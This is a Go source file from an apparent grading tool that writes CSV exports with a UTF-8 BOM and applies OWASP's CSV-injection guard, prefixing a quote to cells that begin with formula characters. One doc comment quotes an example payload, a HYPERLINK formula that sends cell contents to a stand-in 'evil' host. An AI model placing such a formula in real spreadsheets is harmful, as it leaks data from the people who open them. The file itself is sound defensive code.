package grader

import (
	"bytes"
	"encoding/csv"
	"strings"
)

// utf8BOM is the byte order mark that makes Excel, Japanese Excel
// included, read a CSV file as UTF-8 instead of the system's code page
// (Shift_JIS on a Japanese Windows).
const utf8BOM = "\uFEFF"

// formulaStarts are the first characters that make a spreadsheet read a cell
// as a formula (or, for tab and carriage return, that Excel strips before
// looking again). The full-width forms are included as a precaution: an IME
// turns them into their ASCII forms as a user types, and they cost nothing
// to guard.
var formulaStarts = []string{"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"}

// NeutraliseFormula returns cell unchanged unless a spreadsheet would run
// it as a formula (it starts with =, +, -, @, a tab or a carriage return,
// or the full-width =, +, - or @); then it prefixes a single quote, which
// spreadsheets show as text. This is OWASP's CSV-injection guard: a student
// named =HYPERLINK("http://evil/?"&A1,"x") stays a name.
//
// Apply it to names and messages, never to numbers or to IDs an import
// matches on; IDs are validated when they are read instead (see
// [ParseRoster]).
func NeutraliseFormula(cell string) string {
	for _, s := range formulaStarts {
		if strings.HasPrefix(cell, s) {
			return "'" + cell
		}
	}
	return cell
}

// startsLikeFormula reports whether NeutraliseFormula would change s.
func startsLikeFormula(s string) bool { return NeutraliseFormula(s) != s }

// encodeCSV writes rows as RFC 4180 CSV, with a UTF-8 BOM first when bom is
// set. Cells are written as given: neutralise them before.
func encodeCSV(rows [][]string, bom bool) ([]byte, error) {
	var buf bytes.Buffer
	if bom {
		buf.WriteString(utf8BOM)
	}
	w := csv.NewWriter(&buf)
	if err := w.WriteAll(rows); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}
